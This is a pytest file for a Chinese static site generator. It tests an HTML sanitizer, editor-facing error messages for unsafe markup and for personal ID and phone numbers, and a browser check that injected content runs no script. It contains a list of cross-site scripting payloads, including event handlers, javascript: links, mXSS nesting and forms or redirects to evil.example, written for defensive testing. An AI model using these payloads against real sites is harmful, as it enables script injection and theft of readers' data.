"""Editors' HTML: unsafe markup and personal data are errors at check; the output allow-list
removes anything that gets through; hostile pages run no script in a real browser."""

from __future__ import annotations

import re
from datetime import date
from html.parser import HTMLParser
from urllib.parse import urlparse

import pytest

from conftest import DEMO_TODAY, REPO, edit, line_of
from generator.gate import html as sanitize
from generator.build import build_site
from generator.cli import main
from generator.tools.local_site import serve
from generator.gate.html import clean_html

CAMPAIGN = "content/campaigns/demo-2019.yaml"
STORY = "content/exemplars/li-xiaolei.md"


def test_allow_list_removes_scripts_handlers_and_foreign_urls():
    dirty = ('<p onclick="x()">文字<script>alert(1)</script><a href="javascript:alert(1)">a</a>'
             '<a href="JaVa&#x09;script:alert(1)">b</a><img src="data:image/png;base64,AA" alt="c">'
             '<img src="https://tracker.example/p.png"><iframe src="https://evil.example/"></iframe>'
             '<iframe srcdoc="&lt;script&gt;x&lt;/script&gt;"></iframe><form action="https://evil.example/">'
             '<input name="pw"></form><style>*{}</style><base href="https://evil.example/"></p>')
    clean = clean_html(dirty)
    for gone in ("onclick", "<script", "javascript", "data:", "tracker.example", "evil.example", "srcdoc",
                 "<style", "<base"):
        assert gone not in clean.lower(), gone
    assert "文字" in clean and '<img alt="c">' in clean


def test_iframes_only_from_allowed_video_hosts_and_sandboxed():
    hosts = frozenset({"player.bilibili.com"})
    kept = clean_html('<iframe src="https://player.bilibili.com/player.html?bvid=1"></iframe>', hosts)
    assert 'src="https://player.bilibili.com/player.html?bvid=1"' in kept and 'sandbox="allow-scripts' in kept
    assert "src=" not in clean_html('<iframe src="http://player.bilibili.com/x"></iframe>', hosts)  # not https
    assert "src=" not in clean_html('<iframe src="https://player.bilibili.com.evil.example/"></iframe>', hosts)


class Signature(HTMLParser):
    """Tags and attributes in order: what a page must keep through the allow-list."""

    def __init__(self):
        super().__init__()
        self.items: list[tuple] = []

    def handle_starttag(self, tag, attrs):
        self.items.append((tag, tuple(sorted((name.lower(), value or "") for name, value in attrs))))


def signature(html: str) -> list[tuple]:
    parser = Signature()
    parser.feed(html)
    return parser.items


def test_our_own_markup_passes_the_allow_list_unchanged(tmp_path, monkeypatch):
    seen: list[tuple[str, str]] = []
    real = sanitize.clean_html

    def recording(html, hosts=frozenset()):
        cleaned = real(html, hosts)
        seen.append((html, cleaned))
        return cleaned

    monkeypatch.setattr(sanitize, "clean_html", recording)
    build_site(REPO, DEMO_TODAY, site_dir=tmp_path / "site")
    assert len(seen) > 300  # every page of the demo went through it
    for before, after in seen:
        assert signature(after) == signature(before)


def check_errors(project, capsys) -> list[str]:
    code = main(["--project", str(project), "--today", "2019-03-04", "check"])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    return captured.err.strip().splitlines()[:-1] if code else []


def test_unsafe_html_is_an_error_with_its_line(mini, capsys):
    edit(mini, CAMPAIGN, "introduction: 方案概述。", "introduction: |\n  方案概述。\n  详见[这里](javascript:alert(1))。")
    edit(mini, STORY, "每个周六，她都在广场上为居民量血压。",
         "每个周六，她都在广场上为居民量血压。\n\n<img src=x onerror=alert(1)>\n<script>alert(2)</script>")
    errors = check_errors(mini, capsys)
    assert errors == [
        f"{CAMPAIGN}:{line_of(mini, CAMPAIGN, 'javascript:')}: introduction: 不允许的链接地址“javascript:”："
        "链接只能是站内路径或 https://、http://、mailto:、tel: 开头的地址；图片请放到 content/images/ 下再引用。",
        f"{STORY}:{line_of(mini, STORY, 'onerror')}: 正文: 不允许使用事件属性 onerror=：它会在读者的浏览器里运行脚本，请删除。",
        f"{STORY}:{line_of(mini, STORY, '<script>')}: 正文: 不允许使用 <script> 标签：编辑内容里不能放脚本、样式、"
        "表单或嵌入对象。请删除它；正文格式请用 Markdown。",
    ]


def test_video_from_an_allowed_host_is_fine(mini, capsys):
    player = '<iframe src="https://player.bilibili.com/player.html?bvid=BV1"></iframe>'
    edit(mini, STORY, "每个周六，她都在广场上为居民量血压。", f"每个周六，她都在广场上为居民量血压。\n\n{player}")
    assert "不允许的 <iframe>" in check_errors(mini, capsys)[0]
    edit(mini, "campaigns.yaml", "  operator: 测试文明办\n", "  operator: 测试文明办\n  video_hosts: [player.bilibili.com]\n")
    assert check_errors(mini, capsys) == []


def test_id_card_and_personal_mobile_numbers_are_errors(mini, capsys):
    edit(mini, STORY, "每个周六，她都在广场上为居民量血压。",
         "每个周六，她都在广场上为居民量血压。身份证 11010519491231002X，电话 138-1234-5678。")
    edit(mini, CAMPAIGN, '    phone: "0000-0000000"', '    phone: "13912345678"')
    errors = check_errors(mini, capsys)
    assert errors == [
        f"{CAMPAIGN}:{line_of(mini, CAMPAIGN, '13912345678')}: contacts[0].phone: 疑似个人手机号码“139****5678”："
        "请改用单位办公电话或服务热线；如本人同意公开，在同一层加上 public: [字段名]（如 public: [phone]）。",
        f"{STORY}:{line_of(mini, STORY, '11010519491231002X')}: 正文: 疑似个人手机号码“138****5678”："
        "请改用单位办公电话或服务热线；如本人同意公开，在同一层加上 public: [字段名]（如 public: [phone]）。",
        f"{STORY}:{line_of(mini, STORY, '11010519491231002X')}: 正文: 疑似居民身份证号码“110***********002X”："
        "身份证号属于个人信息，不能在网站上公开。请删除。",
    ]
    assert not any("1234-5678" in line or "13912345678" in line for line in errors)  # the log does not leak them


def test_numbers_marked_public_and_landlines_pass(mini, capsys):
    edit(mini, CAMPAIGN, '    phone: "0000-0000000"', '    phone: "13912345678"\n    public: [phone]')
    edit(mini, STORY, "sample: true\n", "sample: true\npublic: [body]\n")
    edit(mini, STORY, "每个周六，她都在广场上为居民量血压。", "每个周六，她都在广场上为居民量血压。报名热线 13812345678，"
         "办公电话 0871-63123456，登记号 110105194912310021。")  # the last fails the ID checksum
    assert check_errors(mini, capsys) == []


# Each payload goes where editors type: Markdown bodies, Markdown fields and plain YAML strings.
PAYLOADS = [
    "<script>window.__pwned = 1</script>",
    '<img src="x" onerror="window.__pwned = 2">',
    '<svg onload="window.__pwned = 3"><circle r="1"/></svg>',
    "[点我](javascript:window.__pwned=4)",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned = 5</script>"></iframe>',
    '<a href="jav&#x09;ascript:window.__pwned=6">链接</a>',
    '<object data="data:text/html,<script>parent.__pwned = 7</script>"></object>',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<img src="https://evil.example/track.png">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<details open ontoggle="window.__pwned = 8">x</details>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 9">',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=10>"></noscript>',
    '"><img src=x onerror="window.__pwned = 11">',
    "<base href=\"https://evil.example/\">",
]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from conftest import make_project
    project = make_project(tmp_path_factory.mktemp("hostile") / "p")
    body = "\n\n".join(PAYLOADS)
    edit(project, "campaigns.yaml", "  operator: 测试文明办\n", "  operator: 测试文明办\n  raw_html: strip\n")
    edit(project, STORY, "每个周六，她都在广场上为居民量血压。", "每个周六，她都在广场上为居民量血压。\n\n" + body)
    edit(project, STORY, "title: 广场上的“雷锋大姐”", "title: '\"><img src=x onerror=window.__pwned=12>大姐'")
    edit(project, STORY, "sample: true\n", "sample: true\nsummary: '\"><script>window.__pwned=13</script>'\n")
    block = "\n".join("  " + line for line in body.splitlines())
    edit(project, CAMPAIGN, "introduction: 方案概述。", "introduction: |\n" + block)
    edit(project, CAMPAIGN, "    body: 每周六固定为志愿服务日。", "    body: |\n" + "\n".join("      " + line for line in body.splitlines()))
    (project / "content" / "stations" / "square.yaml").write_text(
        (project / "content" / "stations" / "square.yaml").read_text(encoding="utf-8")
        + "description: |\n" + block + "\n", encoding="utf-8")
    site = build_site(project, date(2019, 3, 4))
    return project, site


def test_hostile_content_is_an_error_unless_strip_is_chosen(hostile_site, capsys):
    project, _ = hostile_site
    text = (project / "campaigns.yaml").read_text(encoding="utf-8")
    (project / "campaigns.yaml").write_text(text.replace("  raw_html: strip\n", ""), encoding="utf-8")
    try:
        errors = check_errors(project, capsys)
    finally:
        (project / "campaigns.yaml").write_text(text, encoding="utf-8")
    for where in ("content/campaigns/demo-2019.yaml", "content/exemplars/li-xiaolei.md", "content/stations/square.yaml"):
        assert sum(line.startswith(where + ":") for line in errors) >= len(PAYLOADS) - 4, where


def test_no_hostile_script_runs_and_nothing_leaves_the_site(hostile_site, browser):
    _, site = hostile_site
    with serve(site) as base:
        requests, dialogs = visit_hostile_pages(browser, base)
    assert dialogs == []
    assert all(urlparse(url).hostname == "127.0.0.1" for url in requests), [u for u in requests if "127.0.0.1" not in u]


def visit_hostile_pages(browser, base: str) -> tuple[list[str], list[str]]:
    """Open the pages the payloads landed on; return the requests made and dialogs raised."""
    context = browser.new_context()
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        for path in ("/exemplars/li-xiaolei/", "/exemplars/", "/campaigns/demo-2019/",
                     "/campaigns/demo-2019/activities/saturday/", "/stations/square/", "/", "/news/"):
            page.goto(base + path)
            page.wait_for_timeout(300)
            for link in page.locator("article a").all():  # javascript: links would run on click
                href = link.get_attribute("href") or ""
                assert not re.match(r"\s*(javascript|data|vbscript):", href, re.I), (path, href)
            page.locator("details").evaluate_all("ds => ds.forEach(d => d.open = !d.open)")
            page.wait_for_timeout(100)
            assert page.evaluate("typeof window.__pwned") == "undefined", path
            assert page.url.startswith(base + path), "a meta refresh or base tag moved the page"
        assert page.locator("article").first.inner_text()  # the page is still there, text and all
    finally:
        context.close()
    return requests, dialogs


def test_video_host_written_as_a_url_is_explained(mini, capsys):
    edit(mini, "campaigns.yaml", "  operator: 测试文明办\n",
         "  operator: 测试文明办\n  video_hosts: [https://player.bilibili.com/]\n")
    assert check_errors(mini, capsys) == [
        f"campaigns.yaml:{line_of(mini, 'campaigns.yaml', 'video_hosts')}: site.video_hosts[0]: "
        "“https://player.bilibili.com/”不是主机名：只写网站的主机名，不带 https:// 和路径，如 player.bilibili.com。"]
